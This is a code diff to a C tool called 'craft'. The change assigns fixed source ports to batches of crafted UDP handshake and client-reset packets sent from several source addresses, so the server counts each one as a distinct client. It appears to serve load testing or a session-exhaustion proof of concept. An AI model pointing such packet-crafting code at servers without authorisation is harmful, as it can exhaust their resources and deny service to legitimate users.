@@ -46,6 +46,14 @@ enum {
 	BATCH = 64,		   /* sockets at once; more overflow the server's socket buffer */
 	REPLY_WAIT_MS = 300,	   /* for the cookie replies of one batch */
 	CHATTY_INTERVAL_MS = 1000, /* well under the server's 5 s stall */
+	/*
+	 * Handshake i binds port PORT_BASE + i / (number of SRC_IPs), below the
+	 * ephemeral range: a port the kernel picked could come again in a later
+	 * batch, once the earlier socket closed, and the server takes that for
+	 * the same client starting a new session (one handshake fewer).
+	 */
+	PORT_BASE = 20000,
+	PORT_LAST = 32767,
 	CAPTURE_SECONDS = 10,
 	OP_ACK = 5 << 3,
 	OP_RESET_CLIENT = 7 << 3,
@@ -105,10 +113,18 @@ static int batch_resets(struct half *h, int n, const struct sockaddr_in *to, cha
 	for (int i = 0; i < n; i++) {
 		struct sockaddr_in src;
 		uint8_t reset[1 + SID + 1 + 4] = { OP_RESET_CLIENT };
+		long port = PORT_BASE + (first + i) / nsrc;
 
+		if (port > PORT_LAST) {
+			fprintf(stderr, "craft: more than %d handshakes per source address\n",
+				PORT_LAST - PORT_BASE + 1);
+			return 1;
+		}
 		h[i].fd = socket(AF_INET, SOCK_DGRAM, 0);
-		if (h[i].fd < 0 || parse_addr(&src, srcs[(first + i) % nsrc], "0") < 0 ||
-		    bind(h[i].fd, (struct sockaddr *)&src, sizeof(src)) < 0 ||
+		if (h[i].fd < 0 || parse_addr(&src, srcs[(first + i) % nsrc], "0") < 0)
+			return fail("craft: socket");
+		src.sin_port = htons((uint16_t)port);
+		if (bind(h[i].fd, (struct sockaddr *)&src, sizeof(src)) < 0 ||
 		    connect(h[i].fd, (const struct sockaddr *)to, sizeof(*to)) < 0)
 			return fail("craft: socket");
 		(void)!getrandom(h[i].sid, SID, 0);
